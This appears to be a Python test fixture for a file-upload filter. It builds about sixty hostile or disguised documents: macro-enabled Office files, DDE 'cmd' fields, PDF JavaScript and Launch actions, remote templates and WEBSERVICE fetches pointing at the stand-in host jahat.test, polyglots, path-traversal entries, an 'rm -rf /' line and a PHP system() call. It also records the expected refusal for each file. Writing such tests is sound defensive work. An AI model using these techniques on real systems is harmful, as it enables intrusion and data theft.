"""Sixty files that mean harm, or look as if, and what becomes of each.

A case is (name, bytes, refusal). Where the refusal is None the file is taken, and nothing of the
harm may be left in what is kept: `traces` says what to look for.
"""

import io
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass

from coordinator.platform.files.rules import OLE, Refusal
from tests.platform.files import builders
from tests.platform.files.builders import (
    encrypted_zip,
    jpeg,
    part,
    pdf,
    picture,
    repacked,
    sheet,
    word,
)

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-" + rb"ANTIVIRUS-TEST-FILE!$H+H*"
HTML = b"<html><script>alert(1)</script></html>"
JS = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


@dataclass(frozen=True)
class Hostile:
    """One file and what becomes of it."""

    name: str
    data: bytes
    refusal: Refusal | None = None
    traces: tuple[bytes, ...] = ()


def _zip(parts: dict[str, bytes], pack: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", pack) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def programs() -> Iterator[Hostile]:
    """What runs, under names that do not say so."""
    no = Refusal.PROGRAM
    macro_type = part(word(), "[Content_Types].xml").replace(
        b"wordprocessingml.document.main", b"ms-word.document.macroEnabled.main"
    )
    relation = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r9" Type="http://x/attachedTemplate" '
        b'Target="http://jahat.test/t.dotm" TargetMode="External"/></Relationships>'
    )
    yield Hostile("makro.docm", repacked(word(), {"word/vbaProject.bin": b"x"}), no)
    yield Hostile("makro.xlsm", repacked(sheet(), {"xl/vbaProject.bin": b"x"}), no)
    yield Hostile("makro.xlsx", repacked(sheet(), {"xl/VBAPROJECT.BIN": b"x"}), no)
    yield Hostile("tipe makro.docx", repacked(word(), {"[Content_Types].xml": macro_type}), no)
    yield Hostile("excel4.xlsx", repacked(sheet(), {"xl/macrosheets/sheet1.xml": b"<x/>"}), no)
    yield Hostile("activex.docx", repacked(word(), {"word/activeX/activeX1.xml": b"<x/>"}), no)
    part_ = Refusal.PART
    yield Hostile("ole.docx", repacked(word(), {"word/embeddings/oleObject1.bin": OLE}), part_)
    yield Hostile("program.docx", repacked(word(), {"word/setup.exe": b"MZ"}), no)
    yield Hostile("asing.docx", repacked(word(), {"word/apa.saja": b"?"}), part_)
    dde = b'<w:document xmlns:w="w"><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:document>'
    yield Hostile("dde.docx", repacked(word(), {"word/document.xml": dde}), Refusal.COMMAND)
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    yield Hostile("svg.docx", repacked(word(), {"word/media/a.svg": svg}), no)
    yield Hostile(
        "templat jauh.docx",
        repacked(word(), {"word/_rels/settings.xml.rels": relation}),
        None,
        (b"jahat.test",),
    )
    yield Hostile("buka.pdf", pdf("Rapat.", root=f"/OpenAction {JS}"), no)
    yield Hostile("halaman.pdf", pdf("Rapat.", page_more=f"/AA << /O {JS} >>"), no)
    names = f"/Names << /JavaScript << /Names [(a) {JS}] >> >>"
    yield Hostile("nama.pdf", pdf("Rapat.", root=names), no)
    hidden = {50: JS.replace("/JavaScript", "/J#61vaScript").encode()}
    yield Hostile("tersamar.pdf", pdf("Rapat.", root="/OpenAction 50 0 R", objects=hidden), no)
    launch = "/OpenAction << /S /Launch /F (cmd.exe) >>"
    yield Hostile("jalankan.pdf", pdf("Rapat.", root=launch), no)
    yield Hostile("xfa.pdf", pdf("Rapat.", root="/AcroForm << /XFA (x) /Fields [] >>"), part_)
    yield Hostile("eicar.pdf", EICAR, no)
    yield Hostile("eicar.docx", repacked(word(), {"word/embeddings/a.xml": EICAR}), no)
    attached = {
        50: b"<< /Type /Filespec /F (surat.exe) /UF (surat.exe) /EF << /F 51 0 R >> >>",
        51: builders.stream(b"MZ-program-di-dalam", "/Type /EmbeddedFile"),
    }
    tree = "/Names << /EmbeddedFiles << /Names [(surat.exe) 50 0 R] >> >>"
    yield Hostile(
        "lampiran.pdf", pdf("Rapat.", root=tree, objects=attached), None, (b"MZ-program",)
    )
    send = "/OpenAction << /S /SubmitForm /F (http://jahat.test/) >>"
    yield Hostile("kirim.pdf", pdf("Rapat.", root=send), None, (b"jahat.test",))


RELATIONS = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b"%s</Relationships>"
)
KIND = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
BODY = b'<w:document xmlns:w="w" xmlns:v="v"><w:body><w:p>%s</w:p></w:body></w:document>'
RUN = b"<w:r><w:instrText>%s</w:instrText></w:r>"
BEGIN = b'<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
SEPARATE = b"<w:r><w:fldChar w:fldCharType='separate'/></w:r><w:r><w:t>hasil</w:t></w:r>"
END = b'<w:r><w:fldChar w:fldCharType="end"/></w:r>'


def _fields(*pieces: bytes) -> bytes:
    return repacked(word(), {"word/document.xml": BODY % b"".join(pieces)})


def _related(relation: bytes) -> bytes:
    return repacked(word(), {"word/_rels/settings.xml.rels": RELATIONS % relation})


def spellings() -> Iterator[Hostile]:
    """What runs or fetches, in spellings of XML that a pattern does not expect."""
    no, command = Refusal.PROGRAM, Refusal.COMMAND
    gone = (b"jahat.test", b"jah&#97;t")
    yield Hostile(
        "dde terbelah.docx", _fields(BEGIN, RUN % b"DD", RUN % b"EAUTO cmd", END), command
    )
    yield Hostile("dde tersandi.docx", _fields(BEGIN, RUN % b"DD&#69;AUTO cmd", END), command)
    yield Hostile("dde tanpa batas.docx", _fields(RUN % b"D<![CDATA[D]]>E ", RUN % b"cmd"), command)
    simple = b"<w:fldSimple w:instr = ' \"DD&#x45;\" cmd'/>"
    yield Hostile("dde sederhana.docx", _fields(simple), command)
    nested = (BEGIN, BEGIN, RUN % b"QUOTE 68 68 69", SEPARATE, END, RUN % b" cmd", END)
    yield Hostile("dde tersusun.docx", _fields(*nested), command)
    half = (BEGIN, RUN % b" D", BEGIN, RUN % b"QUOTE 68 69", SEPARATE, END, RUN % b" cmd", END)
    yield Hostile("dde setengah.docx", _fields(*half), command)
    link = b"<x:externalLink xmlns:x='x'><x:ddeLink ddeService='cmd'></x:ddeLink></x:externalLink>"
    yield Hostile(
        "dde.xlsx", repacked(sheet(), {"xl/externalLinks/externalLink1.xml": link}), command
    )
    fetch = '=WEBSERVICE("http://jahat.test/")'
    yield Hostile("panggil.xlsx", sheet(lambda book: book.active.append([fetch])), command)
    macro = part(word(), "[Content_Types].xml").replace(
        b"wordprocessingml.document.main", b"ms-word.document.macro&#69;nabled.main"
    )
    yield Hostile("tipe tersandi.docx", repacked(word(), {"[Content_Types].xml": macro}), no)
    for name, instruction in (
        ("gambar jauh", b'INCLUDEPICTURE "http://jahat.test/a.png" \\d'),
        ("teks jauh", b"includetext http://jahat.test/"),
        ("tautan jauh", b"LINK Excel.Sheet.12 \\\\jahat.test\\a.xlsx"),
    ):
        first, last = instruction[:4], instruction[4:]
        pieces = (BEGIN, RUN % first, RUN % last, SEPARATE, END)
        yield Hostile(f"{name}.docx", _fields(*pieces), None, gone)
    source = b"<w:pict><v:imagedata src='http://jahat.test/a.png'/></w:pict>"
    yield Hostile("gambar vml.docx", _fields(source), None, gone)
    for name, relation in (
        ("kutip", b"<Relationship Id='r9' Type='%sattachedTemplate' Target='%s' %s/>"),
        ("spasi", b'<Relationship Id = "r9" Type = "%soleObject" Target = "%s" %s/>'),
        ("lebih", b'<Relationship Id="r>9" Type="%simage" Target="%s" %s/>'),
        ("awalan", b'<p:Relationship xmlns:p="p" Id="r9" Type="%simage" Target="%s" %s/>'),
    ):
        for mode in (b"TargetMode='External'", b'TargetMode="Ext&#101;rnal"', b""):
            filled = relation % (KIND, b"http://jahat.test/t.dotm", mode)
            yield Hostile(f"relasi {name} {len(mode)}.docx", _related(filled), None, gone)
    coded = b'<Relationship Id="r9" Type="%sf&#114;ame" Target="http://jah&#97;t.test/" %s/>'
    mode = b'TargetMode="External"'
    yield Hostile("relasi tersandi.docx", _related(coded % (KIND, mode)), None, gone)
    share = b'<Relationship Id="r9" Type="%simage" Target="\\\\jahat.test\\a.png"/>' % KIND
    yield Hostile("relasi bersama.docx", _related(share), None, gone)


def disguises() -> Iterator[Hostile]:
    """What is something else than its name, or two things at once."""
    kind = Refusal.TYPE
    yield Hostile("exe.pdf", b"MZ\x90\x00" + b"\x00" * 500 + b"%%EOF", kind)
    yield Hostile("elf.pdf", b"\x7fELF" + b"\x00" * 200, kind)
    yield Hostile("html.jpg", HTML, kind)
    yield Hostile("doctype.jpeg", b"<!doctype html><p>x", kind)
    yield Hostile("svg.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>', kind)
    yield Hostile("logo.svg", b'<?xml version="1.0"?><svg/>', kind)
    yield Hostile("naskah.pdf", b"#!/bin/sh\nrm -rf /\n%PDF-1.7\n%%EOF", kind)
    yield Hostile("gif.jpg", b"GIF89a" + b"\x00" * 100, kind)
    yield Hostile("gifar.jpg", b"GIF89a" + _zip({"a.class": b"x"}), kind)
    yield Hostile("rar.docx", b"Rar!\x1a\x07\x00" + b"\x00" * 100, kind)
    yield Hostile("7z.xlsx", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 100, kind)
    yield Hostile("arsip.docx", _zip({"setup.txt": b"x"}), kind)
    yield Hostile("arsip.pdf", _zip({"a.pdf": pdf("x")}), kind)
    yield Hostile(
        "presentasi.docx", _zip({"[Content_Types].xml": b"<T/>", "ppt/p.xml": b"<x/>"}), kind
    )
    yield Hostile("teks.pdf", b"halo, ini teks", kind)
    yield Hostile("gambar.avif", b"\x00\x00\x00\x20ftypavif" + b"\x00" * 100, kind)
    yield Hostile("merek salah.heic", b"\x00\x00\x00\x20ftypheic" + b"\x00" * 100, Refusal.DAMAGED)
    yield Hostile("lama.doc", OLE + b"\x00" * 600, Refusal.OLD_FORMAT)
    yield Hostile("lama.xls", OLE + b"W\x00o\x00r\x00k" * 60, Refusal.OLD_FORMAT)
    yield Hostile("jpeg dan html.jpg", jpeg() + HTML, None, (b"<script",))
    yield Hostile("jpeg dan zip.jpg", jpeg() + _zip({"a.class": b"isi-kelas"}), None, (b"PK\x03",))
    yield Hostile("komentar.jpg", jpeg(comment=HTML), None, (b"<script",))
    yield Hostile("png dan html.png", picture("PNG") + HTML, None, (b"<script",))
    both = pdf("Rapat.") + _zip({"a.class": b"isi-kelas"}) + b"\n%%EOF\n"
    yield Hostile("pdf dan zip.pdf", both, Refusal.DAMAGED)
    behind = pdf("Rapat.") + _zip({"a.class": b"isi-kelas"})
    yield Hostile("zip di ekor.pdf", behind, None, (b"PK\x03", b"PK\x01"))
    yield Hostile("ekor.docx", word() + HTML, None, (b"<script",))


def broken() -> Iterator[Hostile]:
    """Empty, cut off, locked."""
    cut = Refusal.DAMAGED
    yield Hostile("kosong.pdf", b"", Refusal.EMPTY)
    yield Hostile("potong.jpg", jpeg((400, 300))[:900], cut)
    yield Hostile("potong.png", picture("PNG", (400, 300))[:120], cut)
    yield Hostile("potong.heic", picture("HEIF", (400, 300))[:400], cut)
    yield Hostile("potong.pdf", pdf("Rapat.")[:-30], cut)
    yield Hostile("potong.docx", word()[:-200], cut)
    yield Hostile("potong.xlsx", sheet()[:2000], cut)
    yield Hostile("rusak.pdf", b"%PDF-1.7\n" + b"\x00" * 300 + b"%%EOF", cut)
    yield Hostile("sandi.docx", encrypted_zip(word()), Refusal.PASSWORD)
    package = OLE + b"\x00" * 500 + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 500
    yield Hostile("sandi.xlsx", package, Refusal.PASSWORD)
    yield Hostile("sandi.pdf", locked_pdf(), Refusal.PASSWORD)
    yield Hostile("jalan.docx", repacked(word(), {"../../etc/passwd": b"x"}), cut)
    yield Hostile("mutlak.xlsx", repacked(sheet(), {"/etc/passwd": b"x"}), cut)


def doors() -> Iterator[Hostile]:
    """What might slip in with files as other programs write them: rubbish around a PDF, an
    owner's password, parts under other names, pictures by their bytes."""
    rooted = "/OpenAction " + JS
    yield Hostile("zip dahulu.pdf", _zip({"a.class": b"x"}) + pdf("Rapat."), Refusal.TYPE)
    bom = b"\xef\xbb\xbf"
    yield Hostile("tanda lalu zip.pdf", bom + _zip({"a": b"x"}) + pdf("Rapat."), Refusal.TYPE)
    yield Hostile("kepala lalu zip.pdf", b"x" * 9 + _zip({"a": b"x"}) + pdf("R."), Refusal.TYPE)
    yield Hostile("html dahulu.pdf", HTML + pdf("Rapat."), Refusal.TYPE)
    yield Hostile("php dahulu.pdf", b"\n<?php system('x'); ?>" + pdf("Rapat."), Refusal.TYPE)
    yield Hostile("exe dahulu.pdf", b"MZ\x90\x00" + b"\x00" * 60 + pdf("Rapat."), Refusal.TYPE)
    yield Hostile("terlalu jauh.pdf", b"x" * 1024 + pdf("Rapat."), Refusal.TYPE)
    yield Hostile(
        "skrip di balik kepala.pdf", b"GET /x\r\n" + pdf("R.", root=rooted), Refusal.PROGRAM
    )
    garbage = b"halo" * 9
    yield Hostile("kepala.pdf", garbage + pdf("Rapat."), None, (garbage,))
    behind = pdf("Rapat.") + b"\x00" * 9000 + _zip({"a.class": b"isi-kelas"})
    yield Hostile("zip di balik nol.pdf", behind, Refusal.DAMAGED)
    much = pdf("Rapat.") + b"\x00" * 9000 + b"isi-lain " * 400
    yield Hostile("banyak di balik nol.pdf", much, Refusal.DAMAGED)
    for algorithm in ("RC4-40", "AES-128", "AES-256"):
        script = builders.locked(pdf("R.", root=rooted), opens_with="", algorithm=algorithm)
        yield Hostile(f"skrip tersandi {algorithm}.pdf", script, Refusal.PROGRAM)
        numbered = builders.locked(pdf(builders.NIK), opens_with="", algorithm=algorithm)
        yield Hostile(f"nik tersandi {algorithm}.pdf", numbered, Refusal.IDENTITY)
        shut = builders.locked(pdf("R."), opens_with="rahasia", algorithm=algorithm)
        yield Hostile(f"sandi {algorithm}.pdf", shut, Refusal.PASSWORD)
    by_certificate = pdf("x", trailer="/Encrypt << /Filter /Adobe.PubSec /V 4 >>")
    shut = builders.locked(pdf("R."), opens_with="rahasia").replace(b"xref\n0 ", b"xrff\n0 ")
    yield Hostile("sandi tanpa daftar.pdf", shut, Refusal.PASSWORD)
    yield Hostile("sertifikat.pdf", by_certificate, Refusal.PASSWORD)
    lost = pdf("R.", root=rooted).replace(b"xref\n0 1", b"xrff\n0 1")
    yield Hostile("skrip tanpa daftar.pdf", lost, Refusal.PROGRAM)
    yield from _odd_packages()


def _main_at(target: bytes, more: bytes = b"") -> bytes:
    """A DOCX whose package says that its document is at `target`."""
    relation = b'<Relationship Id="r1" Type="%sofficeDocument" Target="%s" %s/>'
    return repacked(word(), {"_rels/.rels": RELATIONS % (relation % (KIND, target, more))})


def _odd_packages() -> Iterator[Hostile]:
    cut, program = Refusal.DAMAGED, Refusal.PROGRAM
    yield Hostile("utama di luar.docx", _main_at(b"../../etc/passwd"), cut)
    yield Hostile("utama di luar, garis balik.docx", _main_at(b"..\\..\\x"), cut)
    yield Hostile("utama tidak ada.docx", _main_at(b"word/hilang.xml"), cut)
    away = b'TargetMode="External"'
    yield Hostile("utama jauh.docx", _main_at(b"http://jahat.test/d.xml", away), cut)
    yield Hostile("utama jauh, setempat.docx", _main_at(b"word/document.xml", away), cut)
    yield Hostile("utama bersama.docx", _main_at(b"\\\\jahat.test\\d.xml"), cut)
    second = b'<Relationship Id="r2" Type="%sofficeDocument" Target="word/styles.xml"/>' % KIND
    first = b'<Relationship Id="r1" Type="%sofficeDocument" Target="word/document.xml"/>' % KIND
    both = repacked(word(), {"_rels/.rels": RELATIONS % (first + second)})
    yield Hostile("dua utama.docx", both, cut)
    types = part(word(), "[Content_Types].xml")
    sheet_type = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    more = b'<Override PartName="/xl/workbook.xml" ContentType="%s"/></Types>' % sheet_type
    twofold = {
        "[Content_Types].xml": types.replace(b"</Types>", more),
        "xl/workbook.xml": part(sheet(), "xl/workbook.xml"),
    }
    yield Hostile("dokumen dan buku kerja.docx", repacked(word(), twofold), cut)
    yield Hostile("naik.docx", repacked(word(), {"word\\..\\..\\x.xml": b"<x/>"}), cut)
    yield Hostile("naik tersandi.docx", repacked(word(), {"word/%2e%2e/x.xml": b"<x/>"}), cut)
    yield Hostile("mutlak.docx", repacked(word(), {"\\windows\\x.xml": b"<x/>"}), cut)
    yield Hostile("kembar.docx", repacked(word(), {"word\\document.xml": b"<x/>"}), cut)
    yield Hostile("kembar kapital.docx", repacked(word(), {"Word\\Document.XML": b"<x/>"}), cut)
    yield Hostile(
        "makro, garis balik.docx", repacked(word(), {"word\\vbaProject.bin": b"x"}), program
    )
    macro = b'<Relationship Id="r9" Type="http://x/vbaProject" Target="fonts/a.odttf"/>'
    yield Hostile("makro sebagai huruf.docx", _related(macro), program)
    up = b'<Relationship Id="r9" Type="%simage" Target="..\\..\\..\\jahat.png"/>' % KIND
    yield Hostile("gambar di luar.docx", _related(up), None, (b"jahat.png",))
    yield Hostile(
        "exe sebagai gambar.docx", repacked(word(), {"word/media/a.exe": jpeg()}), program
    )
    tmp = repacked(word(), {"word/media/a.tmp": b"MZ\x90\x00" + b"\x00" * 90})
    yield Hostile("program sementara.docx", tmp, Refusal.PART)
    ole = repacked(word(), {"word/media/a.bin": OLE + b"\x00" * 90})
    yield Hostile("ole sebagai gambar.docx", ole, Refusal.PART)
    hidden = picture("WEBP") + HTML
    yield Hostile(
        "webp dan html.docx", repacked(word(), {"word/media/a.tmp": hidden}), None, (b"<script",)
    )
    inside = repacked(word(), {"word/embeddings/a.docx": _main_at(b"../x.xml")})
    yield Hostile("utama di luar, di dalam.docx", inside, Refusal.PART)
    script = repacked(
        word(), {"word/embeddings/a.xlsx": repacked(sheet(), {"xl/vbaProject.bin": b"x"})}
    )
    yield Hostile("makro di dalam.docx", script, program)
    numbers = builders.renamed(
        sheet(lambda book: book.active.append([int(digit) for digit in builders.NIK])),
        lambda name: name.replace("worksheets/sheet1.xml", "data/satu.xml"),
        lambda data: data.replace(b"worksheets/sheet1.xml", b"data/satu.xml"),
    )
    yield Hostile("lembar dengan nama lain.xlsx", numbers, Refusal.IDENTITY)


def locked_pdf() -> bytes:
    """A PDF with a password."""
    return builders.locked(pdf("Rapat."), opens_with="rahasia", algorithm="RC4-128")


def everything() -> list[Hostile]:
    """All of them; the bombs are in `bombs`."""
    return [*programs(), *spellings(), *disguises(), *broken(), *doors()]
